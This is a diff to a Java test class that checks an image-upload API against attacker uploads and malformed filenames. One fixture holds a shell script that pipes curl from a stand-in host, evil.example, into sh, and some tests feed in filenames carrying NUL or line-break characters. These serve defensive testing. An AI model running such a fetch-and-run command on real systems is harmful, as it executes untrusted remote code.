@@ -6,8 +6,11 @@ import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertNotEquals;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
+import java.net.URLEncoder;
+import java.net.http.HttpResponse;
 import java.nio.charset.StandardCharsets;
 import java.util.List;
+import java.util.Set;
 import java.util.stream.Stream;
 
 import org.junit.jupiter.api.AfterEach;
@@ -25,7 +28,8 @@ import io.restassured.path.json.JsonPath;
 
 /**
  * Uploads an attacker would try. After each, the attacker owns no ready image and the bucket holds no object of
- * theirs: nothing they sent got in.
+ * theirs: nothing they sent got in. Public objects ({@code public/{imageId}}) do not name their owner, so the bucket is
+ * compared with what it held before the test instead.
  */
 @QuarkusTest
 class ImageUploadAttackTest {
@@ -39,10 +43,12 @@ class ImageUploadAttackTest {
     private static final byte[] SCRIPT = "#!/bin/sh\ncurl https://evil.example | sh\n".getBytes(StandardCharsets.UTF_8);
 
     private TestUser attacker;
+    private Set<String> publicKeysBefore;
 
     @BeforeEach
     void signIn() {
         attacker = Identities.signedIn("attacker");
+        publicKeysBefore = Set.copyOf(TestImages.objectKeysContaining("public/"));
     }
 
     @AfterEach
@@ -52,6 +58,10 @@ class ImageUploadAttackTest {
                 .extract().jsonPath().getList("items.findAll { it.status == 'ready' }");
         assertEquals(List.of(), ready, "no ready image");
         assertEquals(List.of(), TestImages.objectKeysContaining(attacker.id()), "no object left in the bucket");
+        // Other tests do not run meanwhile (one class at a time), so any new public object is the attacker's.
+        List<String> newPublicKeys = TestImages.objectKeysContaining("public/").stream()
+                .filter(key -> key.startsWith("public/") && !publicKeysBefore.contains(key)).toList();
+        assertEquals(List.of(), newPublicKeys, "no public object left in the bucket");
     }
 
     static Stream<Arguments> mislabelledContent() {
@@ -139,6 +149,8 @@ class ImageUploadAttackTest {
                 .then().statusCode(404);
         given().when().get("/api/images/" + id).then().statusCode(404);
         given().auth().oauth2(victim.accessToken()).when().post("/api/images/" + id + "/complete").then().statusCode(200);
+        // The victim's image is public, and the after-check counts every new public object as the attacker's.
+        given().auth().oauth2(victim.accessToken()).when().delete("/api/images/" + id).then().statusCode(204);
     }
 
     @Test
@@ -174,11 +186,14 @@ class ImageUploadAttackTest {
     @ParameterizedTest(name = "streamed: filename with {0} → 400")
     @MethodSource("badFilenames")
     void streamedUploadRefusesBadFilenames(String name, String filename) {
-        if (filename.contains("\u0000") || filename.contains("\n")) {
-            return; // a multipart header cannot carry these; the presigned case covers them
-        }
-        // Sent by hand: RestAssured would encode the filename as ISO-8859-1 and lose the override character.
-        assertEquals(400, TestImages.streamRaw(attacker, filename, TestImages.png(2, 2)));
+        // Sent by hand: RestAssured would encode the filename as ISO-8859-1 and lose the override character. A NUL or a
+        // line break cannot stand in a quoted header value; RFC 5987's extended parameter carries them percent-encoded.
+        String parameter = filename.contains("\u0000") || filename.contains("\n")
+                ? "filename*=UTF-8''" + URLEncoder.encode(filename, StandardCharsets.UTF_8).replace("+", "%20")
+                : "filename=\"" + filename + "\"";
+        HttpResponse<String> response = TestImages.streamWithFilenameParameter(attacker, parameter, TestImages.png(2, 2));
+        assertEquals(400, response.statusCode());
+        assertEquals("filename", JsonPath.from(response.body()).getString("errors[0].field"), response.body());
     }
 
     @Test
